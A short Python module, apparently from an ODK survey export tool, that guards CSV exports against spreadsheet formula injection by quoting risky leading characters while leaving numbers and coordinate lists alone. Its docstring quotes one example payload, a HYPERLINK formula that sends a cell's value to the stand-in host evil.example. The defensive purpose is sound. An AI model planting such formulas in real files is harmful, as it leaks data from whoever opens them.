"""CSV cells that a spreadsheet would run as a formula, neutralised as OWASP recommends.

A citizen's answer ``=HYPERLINK("http://evil.example/?x="&A2,"Click me")`` written verbatim to
a CSV file becomes a live formula when a member of staff opens the file in Excel or LibreOffice.
A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is therefore
written with a single quote in front (``'=HYPERLINK(...)``), which spreadsheets show as text.
Plain numbers (``-12``, ``+3.5``, ``-1e3``) and lists of them (a geotrace's points,
``-1.29 36.82;-1.30 36.83``) are left alone: with no letter, quote or bracket they cannot call a
function or name a cell, and they must stay as ODK writes them. Exports for analysts who read the file with code take ``--raw``.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = frozenset("=+-@\t\r")
_NUMBER = r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?"
#: A number, or numbers separated by spaces and semicolons (geopoints, geotraces, geoshapes).
_PLAIN_NUMBER = re.compile(rf"{_NUMBER}(?:[ ;]+{_NUMBER})*")


def neutralised(value: Any) -> Any:
    """``value``, with a ``'`` in front if it is text a spreadsheet would take for a formula."""
    if isinstance(value, str) and value and value[0] in FORMULA_STARTS and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralised_row(row: Iterable[Any]) -> list[Any]:
    """Every cell of ``row`` :func:`neutralised`."""
    return [neutralised(value) for value in row]
